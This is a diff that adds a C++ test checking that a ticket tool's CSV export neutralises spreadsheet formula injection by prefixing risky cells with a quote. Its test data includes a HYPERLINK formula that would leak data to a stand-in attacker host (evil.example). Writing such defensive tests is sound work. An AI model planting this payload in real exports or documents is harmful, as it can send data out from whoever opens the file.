@@ -97,6 +97,7 @@ private Q_SLOTS:
     void showNotFound();
     void exportFiles_data();
     void exportFiles();
+    void exportNeutralisesFormulas();
     void unopenableDatabase_data();
     void unopenableDatabase();
 
@@ -411,6 +412,50 @@ void TestCommandLine::exportFiles()
     }
     if (expected.contains(1))
         QVERIFY(content.contains("\"Refund, \"\"urgent\"\"\nsecond line\""));
+}
+
+void TestCommandLine::exportNeutralisesFormulas()
+{
+    // Customer-supplied text that a spreadsheet would run: each must arrive as inert text.
+    const QStringList formulas{
+        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak\",\"x\")"),
+        QStringLiteral("+1+1"),
+        QStringLiteral("-2+3"),
+        QStringLiteral("@SUM(A1:A2)"),
+    };
+    {
+        ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
+        TicketStore store(clock);
+        QVERIFY(store.open(db()).ok());
+        for (const QString &formula : formulas) {
+            Ticket t;
+            t.customerId = QStringLiteral("aaaaaaaa-0000-0000-0000-000000000001");
+            t.summary = formula;
+            t.description = QStringLiteral("=1+1");
+            QVERIFY(store.insertTicket(t) > 0);
+        }
+    }
+    const QString path = m_dir->filePath(QStringLiteral("formulas.csv"));
+    const Run r = run({QStringLiteral("export"), path, QStringLiteral("--db"), db()});
+    QCOMPARE(r.code, 0);
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray content = file.readAll();
+    const QList<QStringList> rows = parseCsv(QString::fromUtf8(content));
+    QCOMPARE(rows.size(), formulas.size() + 1);
+    const qsizetype summary = rows[0].indexOf(QStringLiteral("summary"));
+    const qsizetype description = rows[0].indexOf(QStringLiteral("description"));
+    QVERIFY(summary >= 0 && description >= 0);
+    for (qsizetype i = 0; i < formulas.size(); ++i) {
+        QCOMPARE(rows[i + 1][summary], QLatin1Char('\'') + formulas[i]);
+        QCOMPARE(rows[i + 1][description], QStringLiteral("'=1+1"));
+    }
+    // No cell of the file starts with a formula character.
+    for (const QStringList &row : rows) {
+        for (const QString &cell : row)
+            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@").contains(cell.front()), qPrintable(cell));
+    }
+    QVERIFY(content.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"x\"\")\""));
 }
 
 void TestCommandLine::unopenableDatabase_data()
